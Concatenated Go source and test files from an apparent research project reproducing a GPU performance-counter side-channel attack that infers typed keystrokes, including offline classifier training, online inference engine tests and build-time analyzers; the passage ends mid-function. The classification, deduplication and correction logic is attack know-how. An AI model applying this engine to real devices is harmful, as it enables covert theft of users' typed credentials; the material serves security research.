		return collectKey(ch, taskCfg(i), opts, alphabet[(i-1)%nKeys], (i-1)/nKeys, wlen, child(i))
	})
	if err != nil {
		return nil, err
	}

	m := &Model{Key: ModelKeyForChannel(cfg, ch.Name()), Keys: make(map[string]trace.Vec)}

	// Key centroids: keep the smallest-magnitude repeat (a repeat whose
	// window accidentally caught extra work sums high). Tasks are merged
	// in index order, so ties resolve identically at any worker count.
	w := trace.Ones()
	samples := make(map[rune]trace.Vec)
	for i := 1; i < nTasks; i++ {
		if !outs[i].keyOK {
			continue
		}
		r := alphabet[(i-1)%nKeys]
		if prev, ok := samples[r]; !ok || outs[i].key.Norm(w) < prev.Norm(w) {
			samples[r] = outs[i].key
		}
	}
	for r, v := range samples {
		m.Keys[string(r)] = v
	}
	if len(m.Keys) < len(alphabet)*9/10 {
		return nil, fmt.Errorf("attack: offline phase labeled only %d/%d keys", len(m.Keys), len(alphabet))
	}

	// Normalization weights: bring every counter dimension to comparable
	// scale so pixel-count counters do not drown primitive counters.
	m.Weights = weightsFor(m.Keys)

	// Classification thresholds (§5.1), in noise-sigma units (weights are
	// 1/sigma per dimension): Cth caps how perturbed an accepted key press
	// may be; NoiseTol is the tighter bound for matching the deterministic
	// non-key redraw signatures.
	m.Cth = 12
	m.NoiseTol = 4

	// Noise centroids and the launch fingerprint come from the sweep task.
	// Duplication replays never land in a labeling window, so every
	// labeled non-key window is a genuine noise signature.
	m.Launch = outs[0].launch
	seen := map[string]bool{}
	for _, nc := range outs[0].noise {
		sig := fmt.Sprintf("%v", nc.V)
		if seen[sig] {
			continue
		}
		seen[sig] = true
		m.Noise = append(m.Noise, nc)
	}
	sort.Slice(m.Noise, func(i, j int) bool {
		if m.Noise[i].Class != m.Noise[j].Class {
			return m.Noise[i].Class < m.Noise[j].Class
		}
		return m.Noise[i].V.Norm(m.Weights) < m.Noise[j].V.Norm(m.Weights)
	})
	return m, nil
}

func (m *Model) meanKeyNorm() float64 {
	var sum float64
	for _, c := range m.Keys {
		sum += c.Norm(m.Weights)
	}
	if len(m.Keys) == 0 {
		return 1
	}
	return sum / float64(len(m.Keys))
}

// weightsFor computes noise-aware per-dimension weights. Each counter's
// observation noise has two parts: a quantization floor (counters are
// integers; partial-frame reads truncate) and a component proportional to
// magnitude (render jitter scales with the amount drawn). Weighting by
// 1/sigma makes one unit of weighted distance one noise standard
// deviation on every dimension, so small counters (tens of primitives)
// no longer drown in their own rounding while large pixel counters keep
// their full discriminative power.
func weightsFor(keys map[string]trace.Vec) trace.Vec {
	const (
		quantFloor = 2.0   // counter quantization noise, in counts
		jitterRef  = 0.004 // reference relative rendering jitter
	)
	var scale trace.Vec
	for _, c := range keys {
		for i, x := range c {
			if a := abs(x); a > scale[i] {
				scale[i] = a
			}
		}
	}
	var w trace.Vec
	for i, s := range scale {
		sigma := math.Sqrt(quantFloor*quantFloor + jitterRef*s*jitterRef*s)
		w[i] = 1 / sigma
	}
	return w
}

func abs(x float64) float64 {
	if x < 0 {
		return -x
	}
	return x
}
