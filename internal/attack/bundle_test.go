package attack

import (
	"bytes"
	"strings"
	"testing"
)

func TestBundleRoundTrip(t *testing.T) {
	a := tinyModel()
	b := tinyModel()
	b.Key.Device = "other"
	var buf bytes.Buffer
	if err := WriteBundle(&buf, []*Model{a, b}); err != nil {
		t.Fatal(err)
	}
	back, err := ReadBundle(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if len(back) != 2 {
		t.Fatalf("bundle size = %d", len(back))
	}
	if m := FindModel(back, b.Key); m == nil || m.Key.Device != "other" {
		t.Fatal("FindModel failed")
	}
	if FindModel(back, ModelKey{Device: "none"}) != nil {
		t.Fatal("FindModel found nonexistent")
	}
}

func TestBundleValidation(t *testing.T) {
	if err := WriteBundle(&bytes.Buffer{}, nil); err == nil {
		t.Fatal("empty bundle written")
	}
	if _, err := ReadBundle(strings.NewReader("[]")); err == nil {
		t.Fatal("empty bundle read")
	}
	if _, err := ReadBundle(strings.NewReader("[{}]")); err == nil {
		t.Fatal("empty model accepted")
	}
	a := tinyModel()
	var buf bytes.Buffer
	if err := WriteBundle(&buf, []*Model{a, a}); err != nil {
		t.Fatal(err)
	}
	if _, err := ReadBundle(&buf); err == nil {
		t.Fatal("duplicate model keys accepted")
	}
}
