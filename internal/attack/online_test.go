package attack

import (
	"testing"

	"gpuleak/internal/sim"
	"gpuleak/internal/trace"
)

// tinyModel builds a hand-crafted classifier with two keys and two noise
// signatures so engine mechanics can be tested in isolation from the
// full simulation.
func tinyModel() *Model {
	vec := func(vals ...float64) trace.Vec {
		var v trace.Vec
		copy(v[:], vals)
		return v
	}
	return &Model{
		Key:      ModelKey{Device: "test", Keyboard: "test"},
		Weights:  trace.Ones(),
		Cth:      12,
		NoiseTol: 4,
		Keys: map[string]trace.Vec{
			"a": vec(100, 40, 10, 1000),
			"b": vec(160, 70, 25, 1400),
		},
		Noise: []NoiseCentroid{
			{Class: NoisePopupHide, V: vec(90, 35, 8, 900)},
			{Class: NoiseEcho, V: vec(6, 2, 1, 90)},
			{Class: NoiseEcho, V: vec(8, 3, 1, 95)},
			{Class: NoiseBlink, V: vec(2, 1, 0, 3)},
		},
		Launch: vec(500, 200, 50, 5000),
	}
}

func keyA() trace.Vec {
	var v trace.Vec
	v[0], v[1], v[2], v[3] = 100, 40, 10, 1000
	return v
}

func keyB() trace.Vec {
	var v trace.Vec
	v[0], v[1], v[2], v[3] = 160, 70, 25, 1400
	return v
}

func echoVec() trace.Vec {
	var v trace.Vec
	v[0], v[1], v[2], v[3] = 6, 2, 1, 90
	return v
}

func ms(x int64) sim.Time { return sim.Time(x) * sim.Millisecond }

func newTestEngine() *Engine {
	return NewEngine(tinyModel(), 8*sim.Millisecond, OnlineOptions{})
}

func TestEngineInfersExactKeys(t *testing.T) {
	e := newTestEngine()
	e.Process(trace.Delta{At: ms(100), V: keyA()})
	e.Process(trace.Delta{At: ms(400), V: keyB()})
	if e.Text() != "ab" {
		t.Fatalf("text = %q", e.Text())
	}
}

func TestEngineDedupWithinTi(t *testing.T) {
	e := newTestEngine()
	e.Process(trace.Delta{At: ms(100), V: keyA()})
	e.Process(trace.Delta{At: ms(116), V: keyA()}) // popup animation replay
	e.Process(trace.Delta{At: ms(400), V: keyA()}) // genuine second press
	if e.Text() != "aa" {
		t.Fatalf("text = %q, want dedup of the 16ms replay", e.Text())
	}
	if e.Stats().Duplicates != 1 {
		t.Fatalf("duplicates = %d", e.Stats().Duplicates)
	}
}

func TestEngineDedupDisabled(t *testing.T) {
	e := NewEngine(tinyModel(), 8*sim.Millisecond, OnlineOptions{DisableDedup: true})
	e.Process(trace.Delta{At: ms(100), V: keyA()})
	e.Process(trace.Delta{At: ms(116), V: keyA()})
	if e.Text() != "aa" {
		t.Fatalf("text = %q, want duplication to leak with dedup off", e.Text())
	}
}

func TestEngineSplitCombining(t *testing.T) {
	e := newTestEngine()
	half := keyA().Scale(0.5)
	e.Process(trace.Delta{At: ms(100), V: half})
	e.Process(trace.Delta{At: ms(108), V: half})
	if e.Text() != "a" {
		t.Fatalf("split not recombined: %q", e.Text())
	}
	if e.Stats().Splits != 1 {
		t.Fatalf("splits = %d", e.Stats().Splits)
	}
	// The inferred timestamp is the first fragment's (§5.1).
	if e.Keys()[0].At != ms(100) {
		t.Fatalf("split key at %v, want first fragment time", e.Keys()[0].At)
	}
}

func TestEngineSplitCombineDisabled(t *testing.T) {
	e := NewEngine(tinyModel(), 8*sim.Millisecond, OnlineOptions{DisableSplitCombine: true})
	half := keyA().Scale(0.5)
	e.Process(trace.Delta{At: ms(100), V: half})
	e.Process(trace.Delta{At: ms(108), V: half})
	if e.Text() != "" {
		t.Fatalf("split combined despite ablation: %q", e.Text())
	}
}

func TestEngineSplitWindowBounds(t *testing.T) {
	e := newTestEngine()
	half := keyA().Scale(0.5)
	e.Process(trace.Delta{At: ms(100), V: half})
	e.Process(trace.Delta{At: ms(200), V: half}) // 100ms apart: not a split
	if e.Text() != "" {
		t.Fatalf("distant fragments combined: %q", e.Text())
	}
}

func TestEngineThreeWaySplit(t *testing.T) {
	e := newTestEngine()
	third := keyA().Scale(1.0 / 4)
	rest := keyA().Sub(third).Sub(third)
	e.Process(trace.Delta{At: ms(100), V: third})
	e.Process(trace.Delta{At: ms(108), V: third})
	e.Process(trace.Delta{At: ms(116), V: rest})
	if e.Text() != "a" {
		t.Fatalf("3-way split not recombined: %q (stats %+v)", e.Text(), e.Stats())
	}
}

func TestEngineNoiseRejected(t *testing.T) {
	e := newTestEngine()
	var hide trace.Vec
	hide[0], hide[1], hide[2], hide[3] = 90, 35, 8, 900
	e.Process(trace.Delta{At: ms(100), V: hide})
	e.Process(trace.Delta{At: ms(600), V: hide})
	if e.Text() != "" {
		t.Fatalf("noise inferred as keys: %q", e.Text())
	}
	if e.Stats().Noise != 2 {
		t.Fatalf("noise count = %d", e.Stats().Noise)
	}
}

func TestEngineMergedKeyPlusNoiseDenoised(t *testing.T) {
	e := newTestEngine()
	var blink trace.Vec
	blink[0], blink[1], blink[2], blink[3] = 2, 1, 0, 3
	merged := keyA().Add(blink)
	e.Process(trace.Delta{At: ms(100), V: merged})
	if e.Text() != "a" {
		t.Fatalf("merged key+blink not recovered: %q", e.Text())
	}
}

func TestEngineCorrectionOnLoneEcho(t *testing.T) {
	e := newTestEngine()
	// Type 'a': popup, then its echo (prims 6).
	e.Process(trace.Delta{At: ms(100), V: keyA()})
	e.Process(trace.Delta{At: ms(200), V: echoVec()})
	// Type 'b': popup, echo with prims 8.
	var echo2 trace.Vec
	echo2[0], echo2[1], echo2[2], echo2[3] = 8, 3, 1, 95
	e.Process(trace.Delta{At: ms(600), V: keyB()})
	e.Process(trace.Delta{At: ms(700), V: echo2})
	// Backspace: no popup, lone echo with prims back to 6 (-2 step).
	e.Process(trace.Delta{At: ms(1500), V: echoVec()})
	if e.Text() != "a" {
		t.Fatalf("correction not applied: %q (stats %+v)", e.Text(), e.Stats())
	}
	if e.Stats().Corrections != 1 {
		t.Fatalf("corrections = %d", e.Stats().Corrections)
	}
}

func TestEngineCorrectionDisabled(t *testing.T) {
	e := NewEngine(tinyModel(), 8*sim.Millisecond, OnlineOptions{DisableCorrections: true})
	e.Process(trace.Delta{At: ms(100), V: keyA()})
	e.Process(trace.Delta{At: ms(200), V: echoVec()})
	var echo2 trace.Vec
	echo2[0], echo2[1], echo2[2], echo2[3] = 8, 3, 1, 95
	e.Process(trace.Delta{At: ms(600), V: keyB()})
	e.Process(trace.Delta{At: ms(700), V: echo2})
	e.Process(trace.Delta{At: ms(1500), V: echoVec()})
	if e.Text() != "ab" {
		t.Fatalf("correction applied despite ablation: %q", e.Text())
	}
}

func burstVec() trace.Vec {
	var v trace.Vec
	// Big (full-screen) and unclassifiable.
	v[0], v[1], v[2], v[3] = 777, 321, 99, 4_000_000
	return v
}

func TestEngineBurstSuppression(t *testing.T) {
	e := newTestEngine()
	e.Process(trace.Delta{At: ms(100), V: keyA()})
	// Away burst: 6 big unknown deltas 10ms apart.
	for i := 0; i < 6; i++ {
		e.Process(trace.Delta{At: ms(500 + int64(i)*10), V: burstVec()})
	}
	if !e.Suppressed() {
		t.Fatal("burst did not suppress")
	}
	// Foreign-app key-like delta must NOT be inferred... it classifies as
	// a key, which is also the resume signal; a real foreign app does not
	// produce target-app signatures, so use an unknown delta first.
	var foreign trace.Vec
	foreign[0], foreign[1], foreign[2], foreign[3] = 555, 200, 60, 2_000_000
	e.Process(trace.Delta{At: ms(1000), V: foreign})
	if !e.Suppressed() {
		t.Fatal("foreign unknown delta ended suppression")
	}
	// Return burst, then a target-app signature (blink) resumes.
	for i := 0; i < 6; i++ {
		e.Process(trace.Delta{At: ms(3000 + int64(i)*10), V: burstVec()})
	}
	var blink trace.Vec
	blink[0], blink[1], blink[2], blink[3] = 2, 1, 0, 3
	e.Process(trace.Delta{At: ms(3500), V: blink})
	if e.Suppressed() {
		t.Fatal("target-app signature did not resume")
	}
	e.Process(trace.Delta{At: ms(4000), V: keyB()})
	if e.Text() != "ab" {
		t.Fatalf("text = %q", e.Text())
	}
	if e.Stats().Switches < 2 {
		t.Fatalf("switches = %d", e.Stats().Switches)
	}
}

func TestEngineBurstRetractsRecentKeys(t *testing.T) {
	e := newTestEngine()
	e.Process(trace.Delta{At: ms(100), V: keyA()})
	// A burst frame accidentally classified as a key right before the
	// burst is recognized would poison the credential; keys inferred
	// within the detection window are retracted.
	e.Process(trace.Delta{At: ms(500), V: keyB()}) // real key (old enough)
	for i := 0; i < 6; i++ {
		e.Process(trace.Delta{At: ms(700 + int64(i)*10), V: burstVec()})
	}
	if !e.Suppressed() {
		t.Fatal("not suppressed")
	}
	if e.Text() != "ab" {
		t.Fatalf("keys outside the burst window retracted: %q", e.Text())
	}
}

func TestEngineSwitchDetectDisabled(t *testing.T) {
	e := NewEngine(tinyModel(), 8*sim.Millisecond, OnlineOptions{DisableSwitchDetect: true})
	for i := 0; i < 8; i++ {
		e.Process(trace.Delta{At: ms(500 + int64(i)*10), V: burstVec()})
	}
	if e.Suppressed() {
		t.Fatal("suppressed despite ablation")
	}
}

func TestEngineStatsAccounting(t *testing.T) {
	e := newTestEngine()
	e.Process(trace.Delta{At: ms(100), V: keyA()})
	e.Process(trace.Delta{At: ms(200), V: echoVec()})
	var junk trace.Vec
	junk[0] = 43
	e.Process(trace.Delta{At: ms(900), V: junk})
	st := e.Stats()
	if st.Deltas != 3 || st.Keys != 1 || st.Noise != 1 || st.Unknown != 1 {
		t.Fatalf("stats = %+v", st)
	}
}

func TestOnlineOptionsDefaults(t *testing.T) {
	o := OnlineOptions{}.withDefaults(8 * sim.Millisecond)
	if o.DedupWindow != 75*sim.Millisecond {
		t.Fatalf("Ti = %v", o.DedupWindow)
	}
	if o.BurstGap != 50*sim.Millisecond || o.BurstLen != 5 {
		t.Fatalf("burst params = %v/%d", o.BurstGap, o.BurstLen)
	}
	if o.SplitWindow != 21*sim.Millisecond {
		t.Fatalf("split window = %v", o.SplitWindow)
	}
	o2 := OnlineOptions{}.withDefaults(0)
	if o2.SplitWindow <= 0 {
		t.Fatal("zero-interval split window")
	}
}

// Property: the engine never reports two key presses closer than the Ti
// duplication window, no matter what delta stream it sees.
func TestEngineTiInvariantProperty(t *testing.T) {
	m := tinyModel()
	rng := sim.NewRand(991)
	for trial := 0; trial < 200; trial++ {
		e := NewEngine(m, 8*sim.Millisecond, OnlineOptions{})
		at := sim.Time(0)
		for i := 0; i < 40; i++ {
			at += sim.Time(rng.Intn(120)) * sim.Millisecond
			var v trace.Vec
			switch rng.Intn(4) {
			case 0:
				v = keyA()
			case 1:
				v = keyB()
			case 2:
				v = keyA().Scale(0.5)
			default:
				v = echoVec()
			}
			// Random perturbation.
			for j := range v {
				v[j] += float64(rng.Intn(7)) - 3
			}
			e.Process(trace.Delta{At: at, V: v})
		}
		keys := e.Keys()
		for i := 1; i < len(keys); i++ {
			if gap := keys[i].At - keys[i-1].At; gap < 75*sim.Millisecond {
				t.Fatalf("trial %d: keys %d/%d only %v apart", trial, i-1, i, gap)
			}
		}
	}
}

// Property: inferred keys always carry usable margins for guessing.
func TestEngineMarginsPopulated(t *testing.T) {
	e := newTestEngine()
	e.Process(trace.Delta{At: ms(100), V: keyA()})
	e.Process(trace.Delta{At: ms(400), V: keyB()})
	for _, k := range e.Keys() {
		if k.Alt == 0 || k.Alt == k.R {
			t.Fatalf("key %q has no alternative", k.R)
		}
		if k.Margin < 0 {
			t.Fatalf("key %q has negative margin %v", k.R, k.Margin)
		}
	}
}
