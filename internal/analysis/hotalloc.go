package analysis

import (
	"bufio"
	"encoding/json"
	"fmt"
	"go/ast"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
)

// HotAlloc is the hot-path allocation regression gate (ROADMAP open item
// 2). It shells out to `go build -gcflags=-m` for each package named in
// the committed budget file, parses the compiler's escape-analysis
// diagnostics, and counts heap-allocation sites ("escapes to heap" /
// "moved to heap") inside each budgeted function — the sampler tick,
// delta segmentation and centroid-classify path. A function whose site
// count drifts from its committed budget fails the build in either
// direction: above budget is an allocation regression on the hot path,
// below budget is a stale ledger that must be ratcheted down so the win
// cannot silently evaporate later.
//
// Escape sites are a static proxy for per-tick allocation: sites on
// error paths count too, which is intentional — the budget records the
// function's complete allocation surface, and any new site (hot or cold)
// must be justified by editing gpuvet-hotalloc.json in the same change.
var HotAlloc = &Analyzer{
	Name:     "hotalloc",
	Category: "performance",
	Doc:      "hot-path functions must stay within the committed escape-site budget (gpuvet-hotalloc.json, via go build -gcflags=-m)",
	Run:      runHotAlloc,
}

func init() { Register(HotAlloc) }

// HotAllocBudget is the parsed gpuvet-hotalloc.json.
type HotAllocBudget struct {
	Schema string `json:"schema"`
	// Note is free-form documentation carried in the file.
	Note    string          `json:"note,omitempty"`
	Budgets []HotAllocEntry `json:"budgets"`
}

// HotAllocEntry budgets one function.
type HotAllocEntry struct {
	// Package is the module-relative package directory, e.g.
	// "internal/attack".
	Package string `json:"package"`
	// Function is the declaration name as "Name", "(T).Name" or
	// "(*T).Name".
	Function string `json:"function"`
	// Allocs is the exact number of heap-allocation sites the compiler's
	// escape analysis may report inside the function.
	Allocs int `json:"allocs"`
	// Why documents what the remaining sites are.
	Why string `json:"why,omitempty"`
}

// HotAllocSchema is the budget file's schema identifier.
const HotAllocSchema = "gpuvet-hotalloc/v1"

// LoadHotAllocBudget reads and validates a budget file.
func LoadHotAllocBudget(path string) (*HotAllocBudget, error) {
	data, err := os.ReadFile(path)
	if err != nil {
		return nil, err
	}
	var b HotAllocBudget
	if err := json.Unmarshal(data, &b); err != nil {
		return nil, fmt.Errorf("analysis: parsing %s: %w", path, err)
	}
	if b.Schema != HotAllocSchema {
		return nil, fmt.Errorf("analysis: %s has schema %q, want %q", path, b.Schema, HotAllocSchema)
	}
	return &b, nil
}

// escapeLineRe matches one compiler diagnostic: path:line:col: message.
var escapeLineRe = regexp.MustCompile(`^(.+\.go):(\d+):(\d+): (.*)$`)

// isAllocDiagnostic reports whether a -m message records a heap
// allocation site (as opposed to inlining notes, leaking-param facts and
// "does not escape" confirmations).
func isAllocDiagnostic(msg string) bool {
	if strings.Contains(msg, "does not escape") {
		return false
	}
	return strings.Contains(msg, "escapes to heap") || strings.Contains(msg, "moved to heap")
}

func runHotAlloc(p *Pass) {
	if p.Config == nil || p.Config.HotAlloc == nil || p.Config.ModuleRoot == "" {
		return
	}
	rel, err := filepath.Rel(p.Config.ModuleRoot, p.Pkg.Dir)
	if err != nil {
		return
	}
	rel = filepath.ToSlash(rel)
	var entries []HotAllocEntry
	for _, e := range p.Config.HotAlloc.Budgets {
		if e.Package == rel {
			entries = append(entries, e)
		}
	}
	if len(entries) == 0 {
		return
	}
	sites, err := escapeSites(p.Config.ModuleRoot, rel)
	if err != nil {
		p.Reportf(p.Pkg.Files[0].Pos(), "hotalloc could not run escape analysis for %s: %v", rel, err)
		return
	}
	// Attribute each site line number to its enclosing declaration.
	counts := map[string]int{}
	decls := map[string]*ast.FuncDecl{}
	eachFuncDecl(p.Pkg, func(file *ast.File, fn *ast.FuncDecl) {
		name := funcDisplayName(fn)
		decls[name] = fn
		start := p.Fset.Position(fn.Pos())
		end := p.Fset.Position(fn.End())
		base := filepath.Base(start.Filename)
		for _, s := range sites {
			if s.file == base && start.Line <= s.line && s.line <= end.Line {
				counts[name]++
			}
		}
	})
	for _, e := range entries {
		fn, ok := decls[e.Function]
		if !ok {
			p.Reportf(p.Pkg.Files[0].Pos(), "hotalloc budget names %s.%s which does not exist: update gpuvet-hotalloc.json", e.Package, e.Function)
			continue
		}
		got := counts[e.Function]
		switch {
		case got > e.Allocs:
			p.Reportf(fn.Pos(), "%s has %d heap-allocation sites, over its hot-path budget of %d: remove the new allocation or justify it by raising the budget in gpuvet-hotalloc.json", e.Function, got, e.Allocs)
		case got < e.Allocs:
			p.Reportf(fn.Pos(), "%s has %d heap-allocation sites but gpuvet-hotalloc.json still budgets %d: ratchet the budget down so the win sticks", e.Function, got, e.Allocs)
		}
	}
}

// site is one heap-allocation diagnostic, located by file base name and
// line (the compiler emits module-root-relative paths; base names are
// unique within a package directory).
type site struct {
	file string
	line int
}

// escapeSites compiles one package with -gcflags=-m and extracts the
// heap-allocation sites inside its directory. The go tool replays
// compiler diagnostics from the build cache, so repeated runs are cheap.
func escapeSites(moduleRoot, relPkg string) ([]site, error) {
	cmd := exec.Command("go", "build", "-gcflags=-m", "-o", os.DevNull, "./"+relPkg)
	cmd.Dir = moduleRoot
	out, err := cmd.CombinedOutput()
	if err != nil {
		return nil, fmt.Errorf("go build -gcflags=-m ./%s: %v\n%s", relPkg, err, out)
	}
	var sites []site
	sc := bufio.NewScanner(strings.NewReader(string(out)))
	sc.Buffer(make([]byte, 1024*1024), 1024*1024)
	for sc.Scan() {
		m := escapeLineRe.FindStringSubmatch(sc.Text())
		if m == nil || !isAllocDiagnostic(m[4]) {
			continue
		}
		// Only sites inside the package directory itself count; -m can
		// mention inlined positions from elsewhere.
		dir := filepath.ToSlash(filepath.Dir(m[1]))
		if dir != relPkg {
			continue
		}
		line, err := strconv.Atoi(m[2])
		if err != nil {
			continue
		}
		sites = append(sites, site{file: filepath.Base(m[1]), line: line})
	}
	return sites, sc.Err()
}
