package analysis

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// loadFixture type-checks one testdata directory under an explicit import
// path (so path-scoped analyzers apply). A fresh loader per fixture keeps
// the loader's per-path memoization from colliding with the real module
// packages of the same import path.
func loadFixture(t *testing.T, rel, pkgPath string) *Package {
	t.Helper()
	l, err := NewLoader(".")
	if err != nil {
		t.Fatalf("NewLoader: %v", err)
	}
	pkg, err := l.LoadDir(filepath.Join("testdata", rel), pkgPath)
	if err != nil {
		t.Fatalf("loading fixture %s: %v", rel, err)
	}
	return pkg
}

// fixtureWants collects "file.go:line" keys for every line carrying a
// trailing "// WANT" marker in the fixture directory.
func fixtureWants(t *testing.T, dir string) map[string]bool {
	t.Helper()
	entries, err := os.ReadDir(dir)
	if err != nil {
		t.Fatalf("reading %s: %v", dir, err)
	}
	wants := map[string]bool{}
	for _, e := range entries {
		if !strings.HasSuffix(e.Name(), ".go") {
			continue
		}
		data, err := os.ReadFile(filepath.Join(dir, e.Name()))
		if err != nil {
			t.Fatal(err)
		}
		for i, line := range strings.Split(string(data), "\n") {
			if strings.Contains(line, "// WANT") {
				wants[fmt.Sprintf("%s:%d", e.Name(), i+1)] = true
			}
		}
	}
	return wants
}

// checkFixture asserts the analyzer reports on exactly the WANT-marked
// lines of the fixture: seeded violations are caught, fixed snippets and
// suppressed lines stay silent.
func checkFixture(t *testing.T, a *Analyzer, rel, pkgPath string) {
	t.Helper()
	if a.Applies != nil && !a.Applies(pkgPath) {
		t.Fatalf("%s does not apply to fixture path %s", a.Name, pkgPath)
	}
	pkg := loadFixture(t, rel, pkgPath)
	diags := Run([]*Package{pkg}, []*Analyzer{a})
	got := map[string]bool{}
	for _, d := range diags {
		if d.Check != a.Name {
			t.Errorf("diagnostic from unexpected check %q: %s", d.Check, d)
		}
		got[fmt.Sprintf("%s:%d", filepath.Base(d.Pos.Filename), d.Pos.Line)] = true
	}
	want := fixtureWants(t, filepath.Join("testdata", rel))
	for k := range want {
		if !got[k] {
			t.Errorf("%s/%s: expected a %s finding, got none", rel, k, a.Name)
		}
	}
	for k := range got {
		if !want[k] {
			t.Errorf("%s/%s: unexpected %s finding", rel, k, a.Name)
		}
	}
}

func TestSimTimeFixtures(t *testing.T) {
	checkFixture(t, SimTime, "simtime/bad", "gpuleak/internal/stbad")
	checkFixture(t, SimTime, "simtime/good", "gpuleak/internal/stgood")
}

func TestSimTimeScope(t *testing.T) {
	if SimTime.Applies("gpuleak/cmd/benchpaper") {
		t.Error("simtime must not apply outside internal/ (benchmarks measure real time)")
	}
	if !SimTime.Applies("gpuleak/internal/exp") {
		t.Error("simtime must apply to internal/ packages")
	}
}

func TestCounterGroupFixtures(t *testing.T) {
	checkFixture(t, CounterGroup, "countergroup/bad", "gpuleak/internal/cgbad")
	checkFixture(t, CounterGroup, "countergroup/good", "gpuleak/internal/cggood")
}

func TestFloatEqFixtures(t *testing.T) {
	// The fixture paths reuse the real distance-math package paths so the
	// scope filter admits them.
	checkFixture(t, FloatEq, "floateq/bad", "gpuleak/internal/attack")
	checkFixture(t, FloatEq, "floateq/good", "gpuleak/internal/stats")
}

func TestFloatEqScope(t *testing.T) {
	if FloatEq.Applies("gpuleak/internal/trace") {
		t.Error("floateq is scoped to the distance-math packages only")
	}
}

func TestLockCheckFixtures(t *testing.T) {
	checkFixture(t, LockCheck, "lockcheck/bad", "gpuleak/internal/lckbad")
	checkFixture(t, LockCheck, "lockcheck/good", "gpuleak/internal/lckgood")
}

func TestObsEventFixtures(t *testing.T) {
	checkFixture(t, ObsEvent, "obsevent/bad", "gpuleak/internal/oebad")
	checkFixture(t, ObsEvent, "obsevent/good", "gpuleak/internal/oegood")
}

func TestObsEventScope(t *testing.T) {
	if ObsEvent.Applies("gpuleak/internal/obs") {
		t.Error("obsevent must not apply to the obs package itself (stream parsing converts names)")
	}
	if !ObsEvent.Applies("gpuleak/internal/attack") {
		t.Error("obsevent must apply to instrumented internal/ packages")
	}
	if ObsEvent.Applies("gpuleak/cmd/attackd") {
		t.Error("obsevent is scoped to internal/ like the other simulation invariants")
	}
}

func TestIoctlSizeFixtures(t *testing.T) {
	checkFixture(t, IoctlSize, "ioctlsize/bad", "gpuleak/internal/szbad")
	checkFixture(t, IoctlSize, "ioctlsize/good", "gpuleak/internal/szgood")
}

func TestDocCheckFixtures(t *testing.T) {
	// The fixture paths reuse real documented-surface package paths so the
	// scope filter admits them.
	checkFixture(t, DocCheck, "doccheck/bad", "gpuleak/internal/serve")
	checkFixture(t, DocCheck, "doccheck/good", "gpuleak/internal/fault")
}

func TestCtxFlowFixtures(t *testing.T) {
	checkFixture(t, CtxFlow, "ctxflow/bad", "gpuleak/internal/cfbad")
	checkFixture(t, CtxFlow, "ctxflow/good", "gpuleak/internal/cfgood")
}

func TestCtxFlowScope(t *testing.T) {
	if CtxFlow.Applies("gpuleak/cmd/gpuleakd") {
		t.Error("ctxflow must not apply outside internal/ (main functions own the root context)")
	}
	if !CtxFlow.Applies("gpuleak/internal/serve") {
		t.Error("ctxflow must apply to internal/ packages")
	}
}

func TestDetMapFixtures(t *testing.T) {
	checkFixture(t, DetMap, "detmap/bad", "gpuleak/internal/dmbad")
	checkFixture(t, DetMap, "detmap/good", "gpuleak/internal/dmgood")
}

func TestErrTaxonomyFixtures(t *testing.T) {
	// The fixture path reuses the facade's import path so the
	// errors.go-placement rule applies.
	checkFixture(t, ErrTaxonomy, "errtaxonomy/bad", "gpuleak")
	checkFixture(t, ErrTaxonomy, "errtaxonomy/good", "gpuleak")
}

func TestChannelRegFixtures(t *testing.T) {
	checkFixture(t, ChannelReg, "channelreg/bad", "gpuleak/internal/crbad")
	checkFixture(t, ChannelReg, "channelreg/good", "gpuleak/internal/crgood")
}

func TestChannelRegScope(t *testing.T) {
	if ChannelReg.Applies("gpuleak/internal/channel") {
		t.Error("channelreg must not apply to the registry package itself (its tests construct throwaway channels)")
	}
	if !ChannelReg.Applies("gpuleak/internal/serve") {
		t.Error("channelreg must apply to channel consumers")
	}
	if !ChannelReg.Applies("gpuleak/internal/kgslchan") {
		t.Error("channelreg must apply to channel implementations")
	}
}

func TestDefenseRegFixtures(t *testing.T) {
	checkFixture(t, DefenseReg, "defensereg/bad", "gpuleak/internal/drbad")
	checkFixture(t, DefenseReg, "defensereg/good", "gpuleak/internal/drgood")
}

func TestDefenseRegScope(t *testing.T) {
	if DefenseReg.Applies("gpuleak/internal/defense") {
		t.Error("defensereg must not apply to the registry package itself (chains are derived at resolve time)")
	}
	if !DefenseReg.Applies("gpuleak/internal/serve") {
		t.Error("defensereg must apply to defense consumers")
	}
	if !DefenseReg.Applies("gpuleak/internal/exp") {
		t.Error("defensereg must apply to the tournament layer")
	}
}

// checkHotAllocFixture is checkFixture for the hotalloc analyzer, which
// needs a driver Config carrying the fixture's own budget file and the
// module root (it shells out to go build).
func checkHotAllocFixture(t *testing.T, rel string, pkgPath string) {
	t.Helper()
	l, err := NewLoader(".")
	if err != nil {
		t.Fatalf("NewLoader: %v", err)
	}
	dir := filepath.Join("testdata", rel)
	pkg, err := l.LoadDir(dir, pkgPath)
	if err != nil {
		t.Fatalf("loading fixture %s: %v", rel, err)
	}
	budget, err := LoadHotAllocBudget(filepath.Join(dir, "budget.json"))
	if err != nil {
		t.Fatalf("loading fixture budget: %v", err)
	}
	cfg := &Config{ModuleRoot: l.ModuleRoot, HotAlloc: budget}
	diags := RunConfig(cfg, []*Package{pkg}, []*Analyzer{HotAlloc})
	got := map[string]bool{}
	for _, d := range diags {
		got[fmt.Sprintf("%s:%d", filepath.Base(d.Pos.Filename), d.Pos.Line)] = true
	}
	want := fixtureWants(t, dir)
	for k := range want {
		if !got[k] {
			t.Errorf("%s/%s: expected a hotalloc finding, got none", rel, k)
		}
	}
	for k := range got {
		if !want[k] {
			t.Errorf("%s/%s: unexpected hotalloc finding", rel, k)
		}
	}
}

func TestHotAllocFixtures(t *testing.T) {
	checkHotAllocFixture(t, "hotalloc/bad", "gpuleak/internal/habad")
	checkHotAllocFixture(t, "hotalloc/good", "gpuleak/internal/hagood")
}

// TestHotAllocSkipsWithoutConfig pins that the analyzer is inert without
// a driver config: plain Run() callers (older tests, fixtures for other
// checks) never shell out to go build.
func TestHotAllocSkipsWithoutConfig(t *testing.T) {
	pkg := loadFixture(t, "hotalloc/bad", "gpuleak/internal/habad")
	if diags := Run([]*Package{pkg}, []*Analyzer{HotAlloc}); len(diags) != 0 {
